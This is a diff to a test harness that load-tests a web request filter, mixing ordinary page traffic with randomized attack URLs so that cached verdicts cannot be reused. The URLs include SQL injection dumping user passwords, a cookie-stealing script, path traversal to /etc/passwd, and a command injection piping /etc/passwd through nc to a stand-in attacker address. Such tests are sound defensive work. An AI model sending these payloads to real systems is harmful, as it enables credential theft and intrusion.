@@ -28,10 +28,11 @@ from pathlib import Path
 
 from harness import ROOT, Filter, connects, free_port, wait
 
-ATTACKS = ["/product?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
-           "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
-           "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
-           "/search?q=%3B%20cat%20/etc/passwd%20%7C%20nc%20203.0.113.9%204444"]
+# No two alike: what was seen before is answered from memory, and the text model has nothing to do.
+ATTACKS = ["/product?id={}%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
+           "/search?q={}%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+           "/static/{}/..%2f..%2f..%2f..%2fetc%2fpasswd",
+           "/search?q={}%3B%20cat%20/etc/passwd%20%7C%20nc%20203.0.113.9%204444"]
 PAGES = ["/", "/search?q=oak+board", "/product?id=3", "/comments", "/nowhere"]
 SECTIONS = """[session]
 gap = "1s"
@@ -96,7 +97,7 @@ def load(show: Filter, seconds: int) -> dict[int, int]:
     while time.monotonic() < end:
         customer, attacker = f"198.51.100.{random.randrange(40)}", f"203.0.113.{random.randrange(60)}"
         calls = [("GET", random.choice(PAGES), customer, None, None)] * 4 + [
-            ("GET", random.choice(ATTACKS), attacker, None, None),
+            ("GET", random.choice(ATTACKS).format(random.randrange(10**6)), attacker, None, None),
             ("POST", "/comments", customer, f"author=Ann&text=A+fine+board+number+{random.randrange(10**6)}", "application/x-www-form-urlencoded"),
             ("POST", "/api/orders", customer, '{"product": 3, "note"', "application/json")]
         if random.random() < 0.05:
